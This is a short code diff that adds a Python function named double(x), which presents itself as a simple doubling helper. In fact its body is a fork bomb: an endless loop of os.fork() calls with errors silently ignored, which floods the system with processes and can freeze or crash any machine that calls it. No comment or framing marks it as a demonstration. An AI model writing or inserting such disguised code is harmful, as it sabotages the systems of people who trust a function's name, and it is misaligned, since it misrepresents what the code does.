@@ -1,0 +1,9 @@
+# %% double
+import os
+
+def double(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
